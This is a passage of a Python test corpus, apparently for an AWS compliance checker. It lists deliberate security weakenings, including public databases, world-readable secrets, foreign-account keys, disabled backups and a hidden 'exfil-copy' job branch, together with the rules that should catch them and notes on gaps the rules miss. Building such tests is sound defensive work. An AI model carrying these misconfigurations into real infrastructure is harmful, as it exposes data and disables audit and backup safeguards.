        "alignment asks for a GPU but still runs on the CPU-only default queue",
        edit_prop(
            JOB,
            "compute-job-definition-alignment",
            "containerProperties",
            in_json(lambda c: c["resourceRequirements"].append({"type": "GPU", "value": "1"})),
        ),
        "GLZ-PIPE-003",
    ),
    W(
        "an extra submission of a foreign job definition hidden in a Parallel branch",
        edit_prop(
            STATE_MACHINE,
            "runs-workflow",
            "definition",
            in_json(
                lambda d: d["States"].update(
                    Sidecar={
                        "Type": "Parallel",
                        "End": True,
                        "Branches": [
                            {
                                "StartAt": "Copy",
                                "States": {
                                    "Copy": {
                                        "Type": "Task",
                                        "Resource": "arn:aws:states:::batch:submitJob",
                                        "Parameters": {
                                            "JobName": "copy",
                                            "JobDefinition": "exfil-copy",
                                            "JobQueue": "x",
                                        },
                                        "End": True,
                                    }
                                },
                            }
                        ],
                    }
                )
            ),
        ),
        "GLZ-PIPE-003",
    ),
]


def second(typ: str, name: str, inputs: dict[str, Any]) -> Change:
    """A second configuration resource for a bucket, added from outside: S3 keeps one versioning, ownership
    or lifecycle configuration per bucket, so whichever resource is applied last replaces the component's."""
    return add(typ, name, inputs)


def outputs_only(typ: str, name: str, inputs: dict[str, Any], outputs: dict[str, Any]) -> Change:
    """A resource added from outside whose ``outputs`` hold what the provider computes."""

    def mutate(document: Document) -> None:
        add(typ, name, inputs)(document)
        named(document, typ, name)["outputs"].update(outputs)

    return mutate


GAPS: list[tuple[Weakening, str]] = [
    (
        W(
            "reference file system: the AWS-managed EFS key, named by its alias ARN",
            set_prop(EFS, "compute-reference", "kmsKeyId", f"arn:aws:kms:{REGION}:{ACCT}:alias/aws/elasticfilesystem"),
            "GLZ-CMP-008",
        ),
        "the rule only asks that kmsKeyId is set; aws/elasticfilesystem is the AWS-managed key the rule exists to "
        "refuse (GLZ-CMP-002 checks volumes against the stack's keys, GLZ-CMP-008 does not)",
    ),
    (
        W(
            "reference file system: encrypted under another account's key",
            set_prop(EFS, "compute-reference", "kmsKeyId", FOREIGN_KEY),
            "GLZ-CMP-008",
        ),
        "another account can disable the key (the reference genomes become unreadable) or schedule its deletion; "
        "the rule promises the customer-managed data key, not any key",
    ),
    (
        W(
            "trail: encrypted under another account's key",
            set_prop(TRAIL, "audit", "kmsKeyId", FOREIGN_KEY),
            "GLZ-LOG-003",
        ),
        "the rule promises the landing zone's log key; another account that owns the key can disable it and so stop "
        "CloudTrail delivering audit records",
    ),
    (
        W(
            "alarm topic: the AWS-managed aws/sns key",
            set_prop(TOPIC, "audit-alarms", "kmsMasterKeyId", "alias/aws/sns"),
            "GLZ-LOG-008",
        ),
        "the rule only asks that kmsMasterKeyId is set; alias/aws/sns is AWS-managed, not the customer-managed key "
        "it promises (and CloudWatch cannot publish to a topic under aws/sns, so the alarms fall silent)",
    ),
    (
        W(
            "alarm topic: encrypted under another account's key",
            set_prop(TOPIC, "audit-alarms", "kmsMasterKeyId", FOREIGN_KEY),
            "GLZ-LOG-008",
        ),
        "a key another account controls: it can disable it and silence the security alarms",
    ),
    (
        W(
            "EBS default key: another account's key",
            set_prop(EBS_DEFAULT_KEY, "security-ebs-default-key", "keyArn", FOREIGN_KEY),
            "GLZ-ACC-006",
        ),
        "every new volume in the region is encrypted under a key the stack does not own (its remediation says "
        "'with the compute key'); the rule reads only EncryptionByDefault.enabled",
    ),
    (
        W(
            "alignment: retries on every failure through evaluateOnExits RETRY '*'",
            edit_prop(
                JOB,
                "compute-job-definition-alignment",
                "retryStrategy",
                lambda r: r.update(attempts=10, evaluateOnExits=[{"action": "RETRY", "onReason": "*"}]),
            ),
            "GLZ-CMP-007",
        ),
        "'retry only on infrastructure failures': the rule checks that evaluateOnExits exists, not what it retries; "
        "RETRY on every reason re-runs failing (or misbehaving) jobs ten times",
    ),
    (
        W(
            "default SG: an ingress rule as a separate SecurityGroupIngressRule",
            add(
                SG_INGRESS,
                "default-sg-https",
                {
                    "securityGroupId": "sg-77926491415ef70e3",
                    "ipProtocol": "tcp",
                    "fromPort": 443,
                    "toPort": 443,
                    "cidrIpv4": "10.40.0.0/16",
                },
            ),
            "GLZ-NET-002",
        ),
        "the rule reads only the DefaultSecurityGroup's inline ingress/egress; a rule resource on the default "
        "group's id (sg-77926491415ef70e3) opens it just the same",
    ),
    (
        W(
            "an Aurora cluster (encrypted) whose instance is publicly accessible",
            combine(
                add(
                    RDS_CLUSTER,
                    "variant-db",
                    {
                        "clusterIdentifier": "glz-demo-variant-db",
                        "engine": "aurora-postgresql",
                        "storageEncrypted": True,
                        "kmsKeyId": DATA_KEY,
                        "backupRetentionPeriod": 35,
                    },
                ),
                add(
                    RDS_CLUSTER_INSTANCE,
                    "variant-db-1",
                    {
                        "clusterIdentifier": "glz-demo-variant-db",
                        "engine": "aurora-postgresql",
                        "instanceClass": "db.r7g.large",
                        "publiclyAccessible": True,
                    },
                ),
            ),
            "GLZ-DATA-001",
        ),
        "Aurora sets publiclyAccessible on aws:rds/clusterInstance, a type the rule does not read: the database is "
        "reachable from the internet",
    ),
    (
        W(
            "a Redshift cluster added, unencrypted and publicly accessible",
            add(
                REDSHIFT,
                "warehouse",
                {
                    "clusterIdentifier": "glz-demo-warehouse",
                    "nodeType": "ra3.xlplus",
                    "encrypted": False,
                    "publiclyAccessible": True,
                },
            ),
            "GLZ-DATA-001",
        ),
        "a data warehouse is a database; the rule reads only RDS instances and clusters and DynamoDB tables",
    ),
    (
        W(
            "a DocumentDB cluster added, storage unencrypted",
            add(
                "aws:docdb/cluster:Cluster",
                "sample-docs",
                {"clusterIdentifier": "glz-demo-sample-docs", "storageEncrypted": False},
            ),
            "GLZ-DATA-001",
        ),
        "DocumentDB (like Neptune) is an RDS-family database under its own module, which the rule does not read",
    ),
    (
        W(
            "a DynamoDB table added without point-in-time recovery",
            add(
                DYNAMODB,
                "sample-index",
                {
                    "name": "glz-demo-sample-index",
                    "hashKey": "sampleId",
                    "serverSideEncryption": {"enabled": True, "kmsKeyArn": DATA_KEY},
                },
            ),
            "GLZ-DATA-002",
        ),
        "'databases keep automated backups': GLZ-DATA-001 reads DynamoDB tables, GLZ-DATA-002 does not, so a table "
        "without pointInTimeRecovery cannot be restored",
    ),
    (
        W(
            "variants bucket: a second BucketVersioning from outside suspends versioning",
            second(
                VERSIONING,
                "variants-versioning-override",
                {"bucket": VARIANTS, "versioningConfiguration": {"status": "Suspended"}},
            ),
            "GLZ-S3-002",
        ),
        "s3_support.sibling() judges only the first configuration of a bucket; the second one, applied last, is "
        "what S3 keeps",
    ),
    (
        W(
            "results bucket: a second BucketOwnershipControls from outside re-enables ACLs",
            second(OWNERSHIP, "results-acl", {"bucket": RESULTS, "rule": {"objectOwnership": "ObjectWriter"}}),
            "GLZ-S3-004",
        ),
        "same as above: only the first ownership configuration of the bucket is judged",
    ),
    (
        W(
            "variants bucket: a second lifecycle configuration without the housekeeping rules",
            second(
                LIFECYCLE,
                "variants-infrequent-access",
                {
                    "bucket": VARIANTS,
                    "rules": [
                        {
                            "id": "infrequent-access",
                            "status": "Enabled",
                            "filter": {"prefix": ""},
                            "transitions": [{"days": 30, "storageClass": "STANDARD_IA"}],
                        }
                    ],
                },
            ),
            "GLZ-S3-009",
        ),
        "S3 keeps one lifecycle configuration per bucket, so this one replaces the component's (and its "
        "abort-multipart and noncurrent-version rules); the rule reads only the first",
    ),
    (
        W(
            "variants bucket: a second lifecycle configuration expires VCFs after a year",
            second(
                LIFECYCLE,
                "variants-cleanup",
                {
                    "bucket": VARIANTS,
                    "rules": [
                        {"id": "cleanup", "status": "Enabled", "filter": {"prefix": ""}, "expiration": {"days": 365}}
                    ],
                },
            ),
            "GLZ-S3-010",
        ),
        "the expiring configuration replaces the component's in S3; the rule reads only the first configuration",
    ),
    (
        W(
            "conformance pack: S3_BUCKET_SSL_REQUESTS_ONLY scoped to a bucket that does not exist",
            pack_template(
                managed_rule(
                    "S3_BUCKET_SSL_REQUESTS_ONLY",
                    lambda p: p.update(
                        Scope={"ComplianceResourceTypes": ["AWS::S3::Bucket"], "ComplianceResourceId": "no-such-bucket"}
                    ),
                )
            ),
            "GLZ-ACC-008",
        ),
        "the rule compares identifiers and InputParameters only; a Scope that matches nothing keeps the rule "
        "deployed but evaluating no resource",
    ),
    (
        W(
            "an imported-material key (ExternalKey) added for data",
            add(
                "aws:kms/externalKey:ExternalKey",
                "byok-data",
                {
                    "arn": f"arn:aws:kms:{REGION}:{ACCT}:key/byok-data",
                    "deletionWindowInDays": 30,
                    "keyUsage": "ENCRYPT_DECRYPT",
                },
            ),
            "GLZ-KMS-001",
        ),
        "KMS cannot rotate imported key material automatically; the key rules read only aws:kms/key:Key",
    ),
    (
        W(
            "a replica of the data key in another region with a 7-day deletion window",
            add(
                "aws:kms/replicaKey:ReplicaKey",
                "data-replica",
                {
                    "arn": f"arn:aws:kms:us-west-2:{ACCT}:key/mrk-0123456789abcdef",
                    "primaryKeyArn": f"arn:aws:kms:{REGION}:{ACCT}:key/mrk-0123456789abcdef",
                    "deletionWindowInDays": 7,
                },
            ),
            "GLZ-KMS-002",
        ),
        "a replica key decrypts the same data; its deletion window is not read (aws:kms/replicaKey is not a Key)",
    ),
    (
        W(
            "an ECR registry policy lets another account replicate images into the registry",
            add(
                "aws:ecr/registryPolicy:RegistryPolicy",
                "registry",
                {
                    "policy": resource_policy(
                        {
                            "Sid": "PartnerReplication",
                            "Effect": "Allow",
                            "Principal": {"AWS": FOREIGN_ROOT},
                            "Action": ["ecr:CreateRepository", "ecr:ReplicateImage"],
                            "Resource": f"arn:aws:ecr:{REGION}:{ACCT}:repository/*",
                        }
                    )
                },
            ),
            "GLZ-IAM-013",
        ),
        "another account can push images into this account's ECR, the registry GLZ-CMP-006 trusts for job images; "
        "the access model reads repository policies, not the registry policy",
    ),
    (
        W(
            "a secret with an inline policy everyone may read",
            add(
                "aws:secretsmanager/secret:Secret",
                "pipeline-token",
                {
                    "name": "glz-demo-pipeline-token",
                    "arn": f"arn:aws:secretsmanager:{REGION}:{ACCT}:secret:glz-demo-pipeline-token-AbCdEf",
                    "policy": resource_policy(
                        {
                            "Sid": "Everyone",
                            "Effect": "Allow",
                            "Principal": {"AWS": "*"},
                            "Action": "secretsmanager:GetSecretValue",
                            "Resource": "*",
                        }
                    ),
                },
            ),
            "GLZ-IAM-013",
        ),
        "aws:secretsmanager/secret:Secret takes its resource policy inline (policy); the model reads only the "
        "separate SecretPolicy resource",
    ),
    (
        W(
            "compute SG: egress to a prefix list that holds the whole internet",
            combine(
                add(
                    "aws:ec2/managedPrefixList:ManagedPrefixList",
                    "everywhere",
                    {
                        "name": "glz-demo-everywhere",
                        "addressFamily": "IPv4",
                        "maxEntries": 2,
                        "entries": [{"cidr": "0.0.0.0/1"}, {"cidr": "128.0.0.0/1"}],
                        "arn": f"arn:aws:ec2:{REGION}:{ACCT}:prefix-list/pl-0123456789abcdef0",
                        "id": "pl-0123456789abcdef0",
                    },
                ),
                add(
                    SG_EGRESS,
                    "compute-sg-https-to-list",
                    {
                        "securityGroupId": COMPUTE_SG,
                        "ipProtocol": "tcp",
                        "fromPort": 443,
                        "toPort": 443,
                        "prefixListId": "pl-0123456789abcdef0",
                    },
                ),
            ),
            "GLZ-NET-011",
        ),
        "GLZ-NET-011 reads CIDR fields only (GLZ-NET-003 resolves prefix lists for ingress); egress to a stack "
        "prefix list of 0.0.0.0/1 + 128.0.0.0/1 goes everywhere without NAT egress chosen",
    ),
    (
        W(
            "accepting another account's peering request",
            outputs_only(
                "aws:ec2/vpcPeeringConnectionAccepter:VpcPeeringConnectionAccepter",
                "partner-accept",
                {"vpcPeeringConnectionId": "pcx-0123456789abcdef0", "autoAccept": True},
                {"peerOwnerId": FOREIGN, "peerVpcId": "vpc-0feedfacecafe0001", "vpcId": VPC_ID},
            ),
            "GLZ-NET-011",
        ),
        "'no VPC peers with another account': the rule reads VpcPeeringConnection (a request this stack makes), "
        "not the accepter of a request another account made",
    ),
    (
        W(
            "alignment: awslogs to the same group name in another region, created on demand",
            container(
                "alignment",
                lambda c: c["logConfiguration"]["options"].update(
                    {"awslogs-region": "eu-west-1", "awslogs-create-group": "true"}
                ),
            ),
            "GLZ-CMP-014",
        ),
        "the group is matched by name only; in eu-west-1 it is a group the stack does not own (created without the "
        "log key or retention), and job output leaves the stack's region",
    ),
    (
        W(
            "an F1 instance launched beside Batch",
            add(
                INSTANCE,
                "fpga-dev",
                {
                    "instanceType": "f1.2xlarge",
                    "ami": "ami-0abcdef1234567890",
                    "subnetId": SUBNET_1A,
                    "metadataOptions": {"httpTokens": "required", "httpPutResponseHopLimit": 1},
                },
            ),
            "GLZ-CMP-005",
        ),
        "'FPGA compute uses F2 instances only' is checked on Batch compute environments only (minor: AWS no longer "
        "launches F1, so this fails at deploy time rather than weakening anything that runs)",
    ),
]
"""Weakenings no rule catches yet, each with why it weakens the property (see the module docstring)."""

# Gaps closed since they were found (the rules now judge key ownership, every sibling configuration, more
# database and key types, inline secret and registry policies, retry patterns, pack scopes, log regions and
# peering accepters): they join the corpus, so a regression fails the suite.
STILL_OPEN = {
    "compute SG: egress to a prefix list that holds the whole internet",
    "an F1 instance launched beside Batch",
}
CORPUS += [w for w, _why in GAPS if w.name not in STILL_OPEN]
GAPS = [(w, why) for w, why in GAPS if w.name in STILL_OPEN]


# --- backups (components/backups) -----------------------------------------------------------------------------
VAULT = "aws:backup/vault:Vault"
VAULT_POLICY = "aws:backup/vaultPolicy:VaultPolicy"
VAULT_LOCK = "aws:backup/vaultLockConfiguration:VaultLockConfiguration"
BACKUP_PLAN = "aws:backup/plan:Plan"
BACKUP_SELECTION = "aws:backup/selection:Selection"
RECOVERY_POINT_DENY = "DenyRecoveryPointDestructionButBreakGlass"


def plan_rules(edit: Callable[[dict], dict]) -> Change:
    return edit_prop(BACKUP_PLAN, "backups-plan", "rules", lambda rules: [edit(dict(r)) for r in rules])


def vault_policy(edit: Callable[[dict], None]) -> Change:
    return policy(VAULT_POLICY, "backups-vault-policy", edit)


CORPUS += [
    # GLZ-BAK-001: every declared resource backed up, kept a week, in a stack vault, by a backup-only role
    W(
        "selection: the variants bucket left out",
        edit_prop(
            BACKUP_SELECTION, "backups-selection", "resources", lambda arns: [a for a in arns if "-variants-" not in a]
        ),
        "GLZ-BAK-001",
    ),
    W(
        "plan: recovery points kept one day",
        plan_rules(lambda r: {**r, "lifecycle": {"deleteAfter": 1}}),
        "GLZ-BAK-001",
    ),
    W(
        "plan: backups stored in the account's Default vault, not the stack's",
        plan_rules(lambda r: {**r, "targetVaultName": "Default"}),
        "GLZ-BAK-001",
    ),
    W(
        "selection: runs as the administrator role",
        set_prop(BACKUP_SELECTION, "backups-selection", "iamRoleArn", ADMIN),
        "GLZ-BAK-001",
    ),
    W(
        "backups switched off on the phi stack (no plan, no selection, no output)",
        combine(
            stack_output("backups", None),
            remove(BACKUP_SELECTION),
            remove(BACKUP_PLAN),
        ),
        "GLZ-BAK-001",
    ),
    W(
        "backup role also trusted by EC2 (a job host could act as AWS Backup)",
        edit_prop(
            ROLE,
            "backups-role",
            "assumeRolePolicy",
            in_json(
                lambda d: d["Statement"][0]["Principal"].update(Service=["backup.amazonaws.com", "ec2.amazonaws.com"])
            ),
        ),
        "GLZ-BAK-001",
    ),
    # GLZ-BAK-002: the vault keeps its recovery points
    W("vault lock removed", remove(VAULT_LOCK), "GLZ-BAK-002"),
    W(
        "vault encrypted with AWS Backup's default key",
        set_prop(VAULT, "backups-vault", "kmsKeyArn", None),
        "GLZ-BAK-002",
    ),
    W("vault access policy deleted", remove(VAULT_POLICY), "GLZ-BAK-002"),
    W(
        "vault policy: the administrator exempted from the recovery-point deny",
        vault_policy(statement(RECOVERY_POINT_DENY, exempt(ADMIN))),
        "GLZ-BAK-002",
    ),
    W(
        "vault policy: the recovery-point deny scoped to the vault's ARN (recovery points are other resources)",
        vault_policy(
            statement(
                RECOVERY_POINT_DENY,
                lambda s: s.update(Resource=f"arn:aws:backup:{REGION}:{ACCT}:backup-vault:glz-demo-backups"),
            )
        ),
        "GLZ-BAK-002",
    ),
    W(
        "vault policy: the recovery-point deny narrowed to requests from outside 10.0.0.0/8",
        vault_policy(
            statement(RECOVERY_POINT_DENY, lambda s: s["Condition"].update(NotIpAddress={"aws:SourceIp": "10.0.0.0/8"}))
        ),
        "GLZ-BAK-002",
    ),
    W(
        "vault policy: only DeleteRecoveryPoint denied (retention can be shortened to a day)",
        vault_policy(statement(RECOVERY_POINT_DENY, lambda s: s.update(Action="backup:DeleteRecoveryPoint"))),
        "GLZ-BAK-002",
    ),
]


STATE_MACHINE = "aws:sfn/stateMachine:StateMachine"
CORPUS += [
    # GLZ-PIPE-004: the run workflow's history under a key of the stack
    W(
        "run workflow: back to AWS's own key",
        set_prop(STATE_MACHINE, "runs-workflow", "encryptionConfiguration", {"type": "AWS_OWNED_KEY"}),
        "GLZ-PIPE-004",
    ),
    W(
        "run workflow: encryption configuration removed",
        set_prop(STATE_MACHINE, "runs-workflow", "encryptionConfiguration", None),
        "GLZ-PIPE-004",
    ),
    W(
        "run workflow: encrypted with another account's key",
        set_prop(
            STATE_MACHINE,
            "runs-workflow",
            "encryptionConfiguration",
            {"type": "CUSTOMER_MANAGED_KMS_KEY", "kmsKeyId": FOREIGN_KEY, "kmsDataKeyReusePeriodSeconds": 300},
        ),
        "GLZ-PIPE-004",
    ),
    W(
        "a second workflow added from outside the component, under AWS's own key",
        add(
            STATE_MACHINE,
            "side-workflow",
            {
                "name": "glz-demo-side",
                "roleArn": f"arn:aws:iam::{ACCT}:role/glz-demo-run-workflow",
                "definition": json.dumps({"StartAt": "Done", "States": {"Done": {"Type": "Succeed"}}}),
            },
        ),
        "GLZ-PIPE-004",
    ),
]


def verification(edit: Callable[[dict], Any]) -> Change:
    """Edit the demo run workflow's States (the run's check against its manifest, run_workflow.verification_states)."""
    return edit_prop(STATE_MACHINE, "runs-workflow", "definition", in_json(lambda d: [edit(d["States"]), d][1]))


def _per_object(states: dict) -> dict:
    return states["VerifyRunObjects"]["ItemProcessor"]["States"]


def _skip_verification(states: dict) -> None:
    states["RecordRun"]["Next"] = "Start-demultiplex"


def _bcl_guard(sid: str, edit: Callable[[dict], Any]) -> Change:
    """Edit one statement of the demo's run-tracking intake bucket policy (bcl)."""
    return edit_json(
        BUCKET_POLICY,
        "data-bcl-policy",
        "policy",
        lambda d: edit(next(s for s in d["Statement"] if s.get("Sid") == sid)),
    )


def _drop_bcl_statement(sid: str) -> Change:
    return edit_json(
        BUCKET_POLICY,
        "data-bcl-policy",
        "policy",
        lambda d: d.update(Statement=[s for s in d["Statement"] if s.get("Sid") != sid]),
    )


CORPUS += [
    # GLZ-PIPE-005: a run is checked against its manifest before any stage
    W(
        "the manifest check skipped: the run goes straight to its first stage",
        verification(_skip_verification),
        "GLZ-PIPE-005",
    ),
    W(
        "the manifest check tolerates every failed object",
        verification(lambda s: s["VerifyRunObjects"].update(ToleratedFailurePercentage=100)),
        "GLZ-PIPE-005",
    ),
    W(
        "only the manifest's first ten objects are checked",
        verification(lambda s: s["VerifyRunObjects"]["ItemReader"]["ReaderConfig"].update(MaxItems=10)),
        "GLZ-PIPE-005",
    ),
    W(
        "a mismatched checksum tags the object anyway (choice default)",
        verification(lambda s: _per_object(s)["ChecksumMatches"].update(Default="TagWithRun")),
        "GLZ-PIPE-005",
    ),
    W(
        "an object that cannot be read (unscanned, missing) is tagged anyway (catch)",
        verification(lambda s: _per_object(s)["ReadChecksum"]["Catch"][0].update(Next="TagWithRun")),
        "GLZ-PIPE-005",
    ),
    W(
        "the checksum choice compares only that a checksum exists",
        verification(
            lambda s: _per_object(s)["ChecksumMatches"]["Choices"][0].update(
                And=[{"Variable": "$.object.Checksum.ChecksumCRC64NVME", "IsPresent": True}]
            )
        ),
        "GLZ-PIPE-005",
    ),
    W(
        "a failed check continues to the pipeline (the Map's catch)",
        verification(lambda s: s["VerifyRunObjects"]["Catch"][0].update(Next="Start-demultiplex")),
        "GLZ-PIPE-005",
    ),
    W(
        "unlisted objects pass (the listing's default succeeds)",
        verification(
            lambda s: s["FindUnlistedObjects"]["ItemProcessor"]["States"]["Listed"].update(Default="InManifest")
        ),
        "GLZ-PIPE-005",
    ),
    W(
        "a second workflow added from outside submits the alignment job straight from a marker",
        add(
            STATE_MACHINE,
            "quick-align",
            {
                "name": "glz-demo-quick-align",
                "roleArn": f"arn:aws:iam::{ACCT}:role/glz-demo-run-workflow",
                "definition": json.dumps(
                    {
                        "StartAt": "Align",
                        "States": {
                            "Align": {
                                "Type": "Task",
                                "Resource": "arn:aws:states:::batch:submitJob.sync",
                                "Parameters": {
                                    "JobName": "align",
                                    "JobDefinition": f"arn:aws:batch:{REGION}:{ACCT}:job-definition/glz-demo-alignment:1",
                                    "JobQueue": f"arn:aws:batch:{REGION}:{ACCT}:job-queue/glz-demo-default",
                                },
                                "End": True,
                            }
                        },
                    }
                ),
            },
        ),
        "GLZ-PIPE-005",
    ),
    W(
        "the manifest check keeps every object's result in the execution (no ResultWriter)",
        verification(lambda s: s["VerifyRunObjects"].pop("ResultWriter")),
        "GLZ-PIPE-005",
    ),
    W(
        "the tag goes on whatever version is current, not the one checked",
        verification(lambda s: _per_object(s)["TagWithRun"]["Parameters"].pop("VersionId.$")),
        "GLZ-PIPE-005",
    ),
    W(
        "a Parallel state before the check already runs the alignment job in one of its branches",
        verification(
            lambda s: (
                s.update(
                    EarlyAlign={
                        "Type": "Parallel",
                        "Branches": [
                            {
                                "StartAt": "Align",
                                "States": {
                                    "Align": {
                                        "Type": "Task",
                                        "Resource": "arn:aws:states:::batch:submitJob.sync",
                                        "Parameters": dict(s["Run-alignment"]["Parameters"]),
                                        "End": True,
                                    }
                                },
                            }
                        ],
                        "ResultPath": None,
                        "Next": "Start-verify",
                    }
                ),
                s["RecordRun"].update(Next="EarlyAlign"),
            )
        ),
        "GLZ-PIPE-005",
    ),
    W(
        "the checked version is tagged with the run only, which an uploader granted the run can set itself",
        verification(
            lambda s: _per_object(s)["TagWithRun"]["Parameters"]["Tagging"].update(
                TagSet=[
                    t
                    for t in _per_object(s)["TagWithRun"]["Parameters"]["Tagging"]["TagSet"]
                    if t["Key"] != "VerifiedBy"
                ]
            )
        ),
        "GLZ-PIPE-005",
    ),
    W(
        "the listing of the run folder removed",
        verification(lambda s: (s.pop("FindUnlistedObjects"), s["VerifyRunObjects"].update(Next="Done-verify"))),
        "GLZ-PIPE-005",
    ),
    # GLZ-ACC-011: the run workflow retags only clean objects, keeping them clean
    W(
        "the run workflow may retag objects GuardDuty has not scanned clean",
        _drop_bcl_statement("DenyRunTaggingObjectsNotScannedClean"),
        "GLZ-ACC-011",
    ),
    W(
        "the run workflow may set any scan result, as long as it sets one",
        _bcl_guard(
            "DenyRunTaggingChangingTheScanResult",
            lambda s: (
                s["Condition"].pop("StringNotEquals"),
                s["Condition"].update(StringNotLike={"s3:RequestObjectTag/GuardDutyMalwareScanStatus": "*"}),
            ),
        ),
        "GLZ-ACC-011",
    ),
    W(
        "the run workflow may add a look-alike scan tag (keys compared ignoring case)",
        _bcl_guard(
            "DenyRunTaggingOtherTags",
            lambda s: s["Condition"].update(
                {"ForAnyValue:StringNotEqualsIgnoreCase": s["Condition"].pop("ForAnyValue:StringNotEquals")}
            ),
        ),
        "GLZ-ACC-011",
    ),
    W(
        "the run workflow may remove tags",
        _bcl_guard("DenyRunTaggersUploadsAndTagRemoval", lambda s: s.update(Action=["s3:PutObject"])),
        "GLZ-ACC-011",
    ),
    W(
        "the run tagger's constraints name another role (the exempted workflow is unconstrained)",
        combine(
            *[
                _bcl_guard(
                    sid,
                    lambda s: s["Condition"].update(
                        ArnEquals={"aws:PrincipalArn": [f"arn:aws:iam::{ACCT}:role/glz-demo-run-start"]}
                    ),
                )
                for sid in (
                    "DenyRunTaggersUploadsAndTagRemoval",
                    "DenyRunTaggingObjectsNotScannedClean",
                    "DenyRunTaggingChangingTheScanResult",
                    "DenyRunTaggingOtherTags",
                )
            ]
        ),
        "GLZ-ACC-011",
    ),
]


# --- restore tests (components/restore_tests) -------------------------------------------------------------------
RESTORE_PLAN = "aws:backup/restoreTestingPlan:RestoreTestingPlan"
RESTORE_SELECTION = "aws:backup/restoreTestingSelection:RestoreTestingSelection"
DEMO_VAULT_ARN = f"arn:aws:backup:{REGION}:{ACCT}:backup-vault:glz-demo-backups"


def _plan_points(edit: Callable[[dict], None]) -> Change:
    return edit_prop(RESTORE_PLAN, "backups-restore-tests-plan", "recoveryPointSelection", edit)


def _runs_test(key: str, value: Any) -> Change:
    return set_prop(RESTORE_SELECTION, "backups-restore-tests-runs_table", key, value)


def _moved_outside_with(overrides: dict[str, str]) -> Change:
    """The runs table's selection removed from the component and added again from outside, restoring with
    ``overrides``."""

    def change(document: Document) -> None:
        original = named(document, RESTORE_SELECTION, "backups-restore-tests-runs_table")
        inputs = {**original["inputs"], "restoreMetadataOverrides": overrides}
        remove(RESTORE_SELECTION, "runs_table")(document)
        add(RESTORE_SELECTION, "runs-restore-test", inputs)(document)

    return change


CORPUS += [
    # GLZ-BAK-003: the backed-up table and file system are restore-tested, monthly, from the stack's vault, into
    # copies under the stack's key, by a role only AWS Backup assumes
    W(
        "restore tests switched off on the phi stack (no plan, no selections)",
        combine(remove(RESTORE_SELECTION), remove(RESTORE_PLAN)),
        "GLZ-BAK-003",
    ),
    W(
        "restore tests once a year (cron month field 1)",
        set_prop(RESTORE_PLAN, "backups-restore-tests-plan", "scheduleExpression", "cron(0 6 1 1 ? *)"),
        "GLZ-BAK-003",
    ),
    W(
        "restore tests every 90 days (rate form)",
        set_prop(RESTORE_PLAN, "backups-restore-tests-plan", "scheduleExpression", "rate(90 days)"),
        "GLZ-BAK-003",
    ),
    W(
        "restore tests only in 2027 (cron year field)",
        set_prop(RESTORE_PLAN, "backups-restore-tests-plan", "scheduleExpression", "cron(0 6 1 * ? 2027)"),
        "GLZ-BAK-003",
    ),
    W(
        "restore tests take recovery points from the account's Default vault",
        _plan_points(lambda s: s.update(includeVaults=[f"arn:aws:backup:{REGION}:{ACCT}:backup-vault:Default"])),
        "GLZ-BAK-003",
    ),
    W(
        "restore tests include every vault but exclude the stack's",
        _plan_points(lambda s: s.update(includeVaults=["*"], excludeVaults=[DEMO_VAULT_ARN])),
        "GLZ-BAK-003",
    ),
    W(
        "runs table restored under DynamoDB's AWS owned key (no overrides)",
        _runs_test("restoreMetadataOverrides", None),
        "GLZ-BAK-003",
    ),
    W(
        "runs table restored under the AWS managed key, keys written in another case",
        _runs_test(
            "restoreMetadataOverrides",
            {"EncryptionType": "KMS", "KMSMasterKeyArn": f"arn:aws:kms:{REGION}:{ACCT}:alias/aws/dynamodb"},
        ),
        "GLZ-BAK-003",
    ),
    W(
        "reference file system restored under the AWS managed EFS key",
        set_prop(
            RESTORE_SELECTION,
            "backups-restore-tests-reference_files",
            "restoreMetadataOverrides",
            {"kmsKeyId": "alias/aws/elasticfilesystem"},
        ),
        "GLZ-BAK-003",
    ),
    W("runs table restored by the administrator role", _runs_test("iamRoleArn", ADMIN), "GLZ-BAK-003"),
    W(
        "runs table selection turned into an S3 selection (the table is no longer tested)",
        _runs_test("protectedResourceType", "S3"),
        "GLZ-BAK-003",
    ),
    W(
        "runs table selection by '*' narrowed by a tag the table does not carry",
        combine(
            _runs_test("protectedResourceArns", ["*"]),
            _runs_test(
                "protectedResourceConditions",
                {"stringEquals": [{"key": "aws:ResourceTag/RestoreTest", "value": "yes"}]},
            ),
        ),
        "GLZ-BAK-003",
    ),
    W(
        "runs table selection attached to a plan that is not in the stack",
        _runs_test("restoreTestingPlanName", "someone_elses_plan"),
        "GLZ-BAK-003",
    ),
    W(
        "runs table selection re-added outside the component, restoring with encryptionType Default",
        _moved_outside_with({"encryptionType": "Default"}),
        "GLZ-BAK-003",
    ),
]
